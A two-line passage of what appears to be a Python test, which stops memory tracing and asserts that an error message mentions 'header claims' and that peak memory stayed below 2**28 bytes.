    tracemalloc.stop()
    assert "header claims" in said and most < 2**28
